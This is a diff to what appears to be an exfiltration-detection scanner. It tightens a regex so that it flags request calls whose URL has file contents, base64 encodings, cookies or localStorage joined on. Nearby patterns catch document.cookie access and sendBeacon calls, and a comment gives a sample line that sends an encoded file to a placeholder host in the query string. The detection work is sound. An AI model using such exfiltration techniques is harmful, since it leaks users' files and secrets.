@@ -138,11 +138,12 @@ _URL_WITH_BROWSER_SECRET = re2.compile(
     r"""(?:document\.cookie|(?:local|session)Storage\b|JSON\.stringify\(\s*(?:local|session)Storage)"""
 )
 _BEACON = re.compile(r"navigator\.sendBeacon\s*\(\s*" + _STR)
-# A request whose address has data joined onto it (`urlopen('https://x/p?d=' + blob)`): what is
-# joined leaves in the address.
+# A request whose address has a file's content or an encoding of it joined on
+# (`urlopen('https://x/p?d=' + b64encode(open(p).read()))`): what is joined leaves in the address.
 _URL_SPLICED = re.compile(
     r"(?:urlopen|Request|requests\.get|httpx\.get|fetch|axios\.get|http\.get|https\.get"
-    r"|file_get_contents)\s*\(\s*" + _STR + r"\s*(?:\+|\.\s)"
+    r"|file_get_contents)\s*\(\s*" + _STR + r"\s*(?:\+|\.\s)[^\n]{0,160}?"
+    r"(?:\.read\(|b64encode|base64|btoa\(|readFileSync|document\.cookie|localStorage)"
 )
 _FETCH = re.compile(
     r"(?:requests\.get|httpx\.get|urlopen|urlretrieve|fetch|axios\.get|http\.get|https\.get"
